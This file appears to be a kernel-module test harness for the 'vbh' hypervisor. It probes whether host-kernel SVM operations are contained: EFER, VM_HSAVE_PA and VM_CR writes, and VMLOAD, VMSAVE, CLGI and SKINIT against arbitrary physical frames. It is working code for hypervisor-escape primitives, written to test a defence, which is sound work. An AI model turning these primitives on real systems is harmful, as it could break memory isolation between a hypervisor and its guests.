// SPDX-License-Identifier: GPL-2.0
/*
 * Attacks 7 and 8 of docs/containment.md: SVM control MSRs and SVM instructions from
 * the host kernel. Inside vbh they must be intercepted (VMRUN always is, APM vol. 2
 * §15.5.1; the others need their intercept bits) and refused or emulated. On a bare
 * kernel this module first sets EFER.SVME, as a host that wants SVM would, so each
 * harness shows what the instruction does when nobody stands in the way.
 */
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <asm/cpufeature.h>
#include <asm/desc.h>
#include <asm/msr-index.h>
#include <asm/segment.h>
#include <asm/special_insns.h>
#include <asm/svm.h>
#include <asm/tlbflush.h>
#include <vbh/stats.h>
#include "attack.h"
#include "probe.h"

#define KGSBASE_OFF 0x620 /* VMCB save area (0x400) + kernel_gs_base (0x220) */

bool svm_on(u64 *old_efer)
{
	if (probe_rdmsr(MSR_EFER, old_efer) != PROBE_OK)
		return false;
	if (*old_efer & EFER_SVME)
		return true;
	return probe_wrmsr(MSR_EFER, *old_efer | EFER_SVME) == PROBE_OK;
}

void svm_restore(u64 old_efer)
{
	if (!(old_efer & EFER_SVME))
		probe_wrmsr(MSR_EFER, old_efer);
}

/*
 * Write MSR, read it back, put the old value back: did the write land? exits= counts
 * the MSR-write exits of the write alone (interrupts are off around it): under vbh an
 * intercepted write may "land" in the host's shadow copy and never reach the CPU.
 */
static void msr_write_attack(u32 msr, u64 val)
{
	u64 old = 0, back = 0, e0;
	unsigned long flags;
	int rt, wt;

	local_irq_save(flags);
	rt = probe_rdmsr(msr, &old);
	e0 = exits_now(VBH_EXIT_MSR_WRITE);
	wt = probe_wrmsr(msr, val);
	out_exits(VBH_EXIT_MSR_WRITE, e0);
	probe_rdmsr(msr, &back);
	if (wt == PROBE_OK && rt == PROBE_OK && back != old)
		probe_wrmsr(msr, old);
	local_irq_restore(flags);
	out("msr=0x%x old=0x%llx wrote=0x%llx readback=0x%llx ", msr, old, val, back);
	if (wt != PROBE_OK)
		out("result=fault trap=%d\n", wt);
	else
		out("result=%s\n", back == val ? "landed" : "not_landed");
}

/* efer_clear: clearing SVME under a running hypervisor makes the next VMRUN of this
 * CPU fail its consistency checks (APM vol. 2 §15.5.1): the host would kill vbh. */
static int efer_clear(int argc, const u64 *a)
{
	u64 efer;
	unsigned long flags;

	local_irq_save(flags);
	if (!svm_on(&efer)) {
		local_irq_restore(flags);
		out("result=error reason=cannot_set_svme\n");
		return 0;
	}
	msr_write_attack(MSR_EFER, efer & ~EFER_SVME);
	probe_wrmsr(MSR_EFER, efer);	/* whatever happened, put EFER back */
	local_irq_restore(flags);
	return 0;
}

/* hsave_write PFN: point VM_HSAVE_PA at a frame; a later VMRUN would dump host state
 * into it (APM vol. 2 §15.30.4), a write primitive into protected memory. */
static int hsave_write(int argc, const u64 *a)
{
	msr_write_attack(MSR_VM_HSAVE_PA, PFN_PHYS(a[0]));
	return 0;
}

/* vmcr_write VAL: VM_CR.SVMDIS (bit 4) would pull SVM from under the hypervisor. */
static int vmcr_write(int argc, const u64 *a)
{
	msr_write_attack(MSR_VM_CR, a[0]);
	return 0;
}

static int msr_read(int argc, const u64 *a)
{
	u64 v = 0;
	int t = probe_rdmsr(a[0], &v);

	if (t == PROBE_OK)
		out("result=read value=0x%llx\n", v);
	else
		out("result=fault trap=%d\n", t);
	return 0;
}

static int msr_write(int argc, const u64 *a)
{
	msr_write_attack(a[0], a[1]);
	return 0;
}

void *svm_page(int i)
{
	static void *pages[SVM_PAGES];

	if (!pages[i])
		pages[i] = (void *)get_zeroed_page(GFP_KERNEL);
	return pages[i];
}

/* What the probed frame holds at the VMCB kernel_gs_base slot, read via the direct map;
 * false if the host cannot read it. */
static bool out_expect(u64 pfn, u64 *w)
{
	int t = probe_read64(phys_to_virt(PFN_PHYS(pfn) + KGSBASE_OFF), w);

	if (t == PROBE_OK)
		out("expect=0x%llx ", *w);
	else
		out("expect=fault ");
	return t == PROBE_OK;
}

/*
 * vmload PFN: load FS/GS/TR/LDTR and the syscall MSRs from a frame (APM vol. 2
 * §15.5.2) and read one of them back, KernelGsBase = 8 bytes of the frame. The host's
 * own state is saved first and reloaded right after, with interrupts off: between the
 * two VMLOADs GS.base is garbage and nothing may touch per-CPU data. The CPU makes
 * the loaded base canonical (QEMU sign-extends bit 47), so 48 bits are compared.
 */
static int vmload_attack(int argc, const u64 *a)
{
	void *scratch = svm_page(SVM_SCRATCH);
	unsigned long flags;
	u64 efer, kgs = 0, want = 0;
	int t_save, t = -2;
	bool known;

	if (!scratch)
		return -ENOMEM;
	known = out_expect(a[0], &want);
	local_irq_save(flags);
	svm_on(&efer);
	t_save = probe_vmsave(__pa(scratch));
	if (t_save == PROBE_OK) {
		t = probe_vmload(PFN_PHYS(a[0]));
		if (t == PROBE_OK)
			probe_rdmsr(MSR_KERNEL_GS_BASE, &kgs);
		probe_vmload(__pa(scratch));
	}
	svm_restore(efer);
	local_irq_restore(flags);
	if (t_save != PROBE_OK)
		out("result=fault trap=%d step=vmsave_own_page\n", t_save);
	else if (t != PROBE_OK)
		out("result=fault trap=%d\n", t);
	else
		out("result=loaded kgsbase=0x%llx match=%s\n", kgs,
		    !known ? "unknown" : ((kgs ^ want) << 16) ? "no" : "yes");
	return 0;
}

/*
 * vmsave PFN: VMSAVE writes processor state into the frame. KernelGsBase is set to a
 * marker for the duration (harmless in kernel mode with interrupts off: only SWAPGS
 * reads it), so "landed" means the frame's kernel_gs_base slot holds the marker.
 */
static int vmsave_attack(int argc, const u64 *a)
{
	const u64 marker = 0xffff8badc0de0000ull | (a[0] & 0xffff);
	unsigned long flags;
	u64 efer, kgs = 0, got = 0;
	int t;

	local_irq_save(flags);
	svm_on(&efer);
	probe_rdmsr(MSR_KERNEL_GS_BASE, &kgs);
	probe_wrmsr(MSR_KERNEL_GS_BASE, marker);
	t = probe_vmsave(PFN_PHYS(a[0]));
	probe_wrmsr(MSR_KERNEL_GS_BASE, kgs);
	svm_restore(efer);
	local_irq_restore(flags);
	out("marker=0x%llx ", marker);
	if (t != PROBE_OK)
		out("result=fault trap=%d\n", t);
	else if (!out_expect(a[0], &got))
		out("result=executed landed=unknown\n");
	else
		out("result=executed landed=%s\n", got == marker ? "yes" : "no");
	return 0;
}

/* clgi: CLGI then STGI; a guest that may clear GIF can hold off the hypervisor's NMIs. */
static int clgi_attack(int argc, const u64 *a)
{
	unsigned long flags;
	u64 efer, e0;
	int t;

	local_irq_save(flags);
	svm_on(&efer);
	e0 = exits_now(VBH_EXIT_VIRT_INSN);
	t = probe_clgi();
	if (t == PROBE_OK)
		t = probe_stgi();
	out_exits(VBH_EXIT_VIRT_INSN, e0);
	svm_restore(efer);
	local_irq_restore(flags);
	if (t != PROBE_OK)
		out("result=fault trap=%d\n", t);
	else
		out("result=executed\n");
	return 0;
}

/* skinit PFN: never on real hardware (it would reinitialise the CPU into a secure
 * loader); only when CPUID says a hypervisor (QEMU, vbh) is underneath. */
static int skinit_attack(int argc, const u64 *a)
{
	unsigned long flags;
	u64 efer;
	int t;

	if (!boot_cpu_has(X86_FEATURE_HYPERVISOR)) {
		out("result=refused reason=bare_metal_guard\n");
		return 0;
	}
	local_irq_save(flags);
	svm_on(&efer);
	t = probe_skinit(PFN_PHYS(a[0]));
	svm_restore(efer);
	local_irq_restore(flags);
	if (t != PROBE_OK)
		out("result=fault trap=%d\n", t);
	else
		out("result=executed\n");
	return 0;
}

const struct atk_cmd svm_cmds[] = {
	{ "efer_clear", 0, efer_clear, "" },
	{ "hsave_write", 1, hsave_write, "PFN" },
	{ "vmcr_write", 1, vmcr_write, "VAL" },
	{ "msr_read", 1, msr_read, "MSR" },
	{ "msr_write", 2, msr_write, "MSR VAL" },
	{ "vmload", 1, vmload_attack, "PFN" },
	{ "vmsave", 1, vmsave_attack, "PFN" },
	{ "clgi", 0, clgi_attack, "" },
	{ "skinit", 1, skinit_attack, "PFN" },
	{ "vmrun", 1, vmrun_attack, "PFN" },
	{ }
};
